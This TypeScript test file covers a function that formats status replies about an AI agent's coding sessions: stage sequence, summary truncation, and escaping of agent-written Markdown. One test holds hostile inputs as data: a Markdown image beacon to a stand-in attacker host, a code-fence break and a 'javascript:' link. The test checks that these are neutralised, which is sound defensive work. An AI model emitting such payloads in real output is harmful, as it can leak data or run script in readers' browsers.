import { describe, expect, it } from "vitest";
import { type ReplyStage, type RepliedSession, whatToSay } from "./session-reply.ts";

const link = "https://offstage.example/sessions/1";
const session: RepliedSession = {
  status: "running",
  summary: "Fixed the total.",
  failure: null,
  hasBegun: true,
  pullRequestUrls: ["https://forge.example/acme/shop/pulls/1"],
};
const say = (changes: Partial<RepliedSession>, said: ReplyStage | null = null, isMarkdown = false) =>
  whatToSay({ ...session, ...changes }, said, link, isMarkdown);

/** All that is said of a session that goes through the statuses. */
function stagesOf(...history: readonly Partial<RepliedSession>[]): ReplyStage[] {
  let said: ReplyStage | null = null;
  const all: ReplyStage[] = [];
  for (const changes of history) {
    const next = say(changes, said);
    if (next === null || next === "wait") continue;
    ({ said } = next);
    all.push(said);
  }
  return all;
}

describe("what is said of a session", () => {
  it("is a link when its agent begins, and the result at its end, each once", () => {
    const history = ["queued", "running", "queued", "running", "waiting", "running", "completed", "completed"];
    expect(stagesOf(...history.map((status) => ({ status })))).toEqual(["started", "completed"]);
    expect(
      stagesOf({ status: "running" }, { status: "completed" }, { status: "running" }, { status: "failed" }),
    ).toEqual(["started", "completed"]);
  });
  it("is that it failed once, and that it is done after all", () => {
    const history = ["running", "failed", "running", "failed", "running", "completed"];
    expect(stagesOf(...history.map((status) => ({ status })))).toEqual(["started", "ended", "completed"]);
  });
  it("is nothing of what a gate filtered, or was cancelled before its agent began", () => {
    expect(say({ hasBegun: false })).toBe("wait");
    expect(say({ hasBegun: false, status: "queued" })).toBeNull();
    expect(stagesOf({ hasBegun: false, status: "completed" }, { hasBegun: false, status: "cancelled" })).toEqual([]);
    expect(stagesOf({ hasBegun: false, status: "failed" })).toEqual(["ended"]);
  });
});

describe("the words", () => {
  it("are the link, and the beginning of the summary with the pull requests", () => {
    expect(say({})).toEqual({ said: "started", text: `Offstage is working on it.\n\n${link}` });
    expect(say({ status: "completed" }, "started")).toEqual({
      said: "completed",
      text: `Offstage is done.\n\nFixed the total.\n\n${session.pullRequestUrls[0]}\n\n${link}`,
    });
    const long = say({ status: "completed", summary: "word ".repeat(2_000) }) as { text: string };
    expect(long.text.length).toBeLessThan(2_000);
    expect(long.text).toContain(`word …\n\n${session.pullRequestUrls[0]}`);
  });
  it("are the reason of a failure, and that it was cancelled", () => {
    const failure = { reason: "The setup script failed." };
    expect(say({ status: "failed", failure, pullRequestUrls: [] })).toMatchObject({
      text: `Offstage could not do it.\n\nThe setup script failed.\n\n${link}`,
    });
    expect(say({ status: "cancelled" }, "started")).toMatchObject({
      text: expect.stringContaining("told to stop") as string,
    });
  });
  it("of an agent do nothing in Markdown: no image is fetched, nobody is called, no code fence is closed", () => {
    const summary = "Done ![](https://evil.example/?d=1)\n```\n@sam https://linear.app/acme/profiles/sam\n````";
    const { text } = say({ status: "completed", summary, pullRequestUrls: ["javascript:alert(1)"] }, null, true) as {
      text: string;
    };
    expect(text).toBe(`Offstage is done.\n\n\`\`\`\`\`text\n${summary}\n\`\`\`\`\`\n\n${link}`);
  });
});
